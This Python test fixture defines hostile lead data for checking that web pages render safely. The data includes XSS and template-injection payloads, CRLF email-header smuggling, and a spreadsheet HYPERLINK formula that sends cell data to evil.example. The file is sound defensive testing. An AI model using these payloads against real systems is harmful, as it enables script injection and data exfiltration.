"""Leads that somebody wrote to break the pages, and a plain lead in the place of each."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from tests.end_to_end.app import Row

SIGN = "Zq"
"""What every hostile text begins with, so that it is found on a page; plain ones do not."""

_CONTACT = ("FirstName", "LastName", "Email", "Phone", "Country", "Company", "Title")
_UNSCORED = ("FirstName", "LastName", "Phone", "OfferTitle", "Description")
_OTHERS = ("OfferTitle", "Description")


@dataclass(frozen=True)
class Specimen:
    """A hostile text, and the fields in which it is sent; all others hold plain ones."""

    name: str
    text: str
    fields: tuple[str, ...] = (*_CONTACT, *_OTHERS)
    unseen: bool = False
    """Whether nobody would see anything of it: then nothing stands in its place."""

    @property
    def offer(self) -> str:
        """The offer of which this is the only text: nothing else stands in its list."""
        return f"contoso.{self.name}"

    @property
    def email(self) -> str:
        """The address of whom one can reach."""
        return f"{self.name}@contoso.com"

    @property
    def shape(self) -> tuple[object, ...]:
        """What decides which elements a page has."""
        return self.fields, self.unseen

    def leads(self) -> list[Row]:
        """Return what is posted: somebody who cannot be reached, and somebody who can, twice."""
        return self._sent(self.text)

    def plain(self) -> list[Row]:
        """Return the same with an innocent text, or with none where nobody would see any."""
        return self._sent("" if self.unseen else f"Plain {self.name}")

    def _sent(self, text: str) -> list[Row]:
        sent = dict.fromkeys(self.fields, text)
        reachable = sent if self.fields == ("Email",) else sent | {"Email": self.email}
        # A campaign that has to be cut is shown a second time, with the description.
        campaign = {"Description": _campaign(text[:40])} if "Description" in sent else {}
        return [self._lead(sent), self._lead(reachable), self._lead(reachable | campaign)]

    def _lead(self, sent: dict[str, str]) -> Row:
        plain = {name: f"plain {name} of {self.name}" for name in _CONTACT}
        return {
            "UserDetails": {name: sent.get(name, plain[name]) for name in _CONTACT},
            "LeadSource": f"AzureMarketplace-INS|{self.offer}",
            "ActionCode": "INS",
            "OfferTitle": sent.get("OfferTitle", "Plain title"),
            "Description": sent.get("Description", "Plain words"),
        }


def _campaign(text: str) -> str:
    """Return a description as listings send it, whose campaign is *text*."""
    return json.dumps({"utm_campaign": text})


def _hostile(name: str, text: str, **others: Any) -> Specimen:  # noqa: ANN401 - as above
    return Specimen(name, f"{SIGN}{text}", **others)


SPECIMENS = (
    _hostile("script", "<script>window.pwned=1;alert(1)</script>"),
    _hostile("image", "<img src=x onerror=window.pwned=1>"),
    _hostile("vector", "\"'><svg onload=window.pwned=1><a xlink:href=javascript:alert(1)>"),
    _hostile("style", "</textarea></title></select><style>*{display:none}</style><plaintext>"),
    _hostile("comment", "<!-- ]]> --!> <![CDATA[ <?php"),
    _hostile("attribute", "' onfocus=window.pwned=1 autofocus tabindex=1 class=x id=main x='"),
    _hostile("entity", "&lt;script&gt;&#60;b&#62;&amp;quot;&NewLine;&#x202e;"),
    _hostile("braces", "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}{# x #}"),
    _hostile("format", "{0.__class__} %s %n %(x)s \\u0041 \\x3cb\\x3e"),
    _hostile("override", "\u202egnp.exe\u202d\u202a\u202b back \u2066\u2067\u2068 no end"),
    _hostile(
        "hebrew", " \u05e9\u05dc\u05d5\u05dd (1) \u200f\u05e2\u05d5\u05dc\u05dd 123 - x! \u061c"
    ),
    _hostile("zalgo", "".join(f"{letter}{'\u0322\u0353\u030d' * 40}" for letter in "HE COMES")),
    _hostile("invisible", "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u034fb\U000e0041\U000e007f"),
    _hostile("emoji", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇸🇪" * 20),
    _hostile("surrogate", "a\ud800b\udfffc\ud83d"),
    _hostile("nul", "a\x00b\x1b[31mc\x07d\x9be\x7f"),
    _hostile("lines", "one\ntwo\r\nthree\tfour\x0bfive\u2028six\u2029seven\x85eight"),
    _hostile("wide", "﷽𒐫𒈙⸻꧅" * 12),
    _hostile("one-word", "W" * 3_000),
    _hostile("one-line", "word " * 600),
    _hostile("traversal", "/../../%2e%2e%2f?x=1&y=2#z;/\\\\host\\share"),
    Specimen("formula", '=HYPERLINK("http://evil.example/?"&A1,"Zq")'),
    Specimen("address", "javascript:alert('Zq')//"),
    Specimen("blind-copy", "zq@contoso.com?bcc=eve@evil.example&body=x", ("Email",)),
    Specimen("smuggled", "zq@contoso.com%0d%0aBcc:eve", ("Email",)),
    Specimen("long-first", "Zq" + "x" * 31_000, ("FirstName",)),
    Specimen("long-company", "Zq" + "語" * 10_000, ("Company",)),
    Specimen("long-description", "Zq " + "word " * 6_000, ("Description",)),
    Specimen("blank", " \t\n\u3000\u2003", unseen=True),
    # Not as the company and the title: what nobody sees of those still counts for the score.
    Specimen("zero-width", "\u200b\u2060\ufeff\u200e", _UNSCORED, unseen=True),
    Specimen("nothing", "", unseen=True),
)
"""Every way we know in which a text has broken out of a page, or brought one down."""

OFFERS = tuple(one for one in SPECIMENS if one.shape == SPECIMENS[0].shape)
"""Those that are sent as the id of an offer, too."""

CODE = SPECIMENS[:9]
"""Those that mean something to a browser or a template."""


def with_id(specimen: Specimen, *, plain: bool) -> Row:
    """Return a lead of an offer whose id is the hostile text, or an innocent one."""
    offer = f"Plain {specimen.name} (id)" if plain else specimen.text
    return (specimen.plain() if plain else specimen.leads())[1] | {
        "LeadSource": f"AzureMarketplace-INS|{offer}"
    }
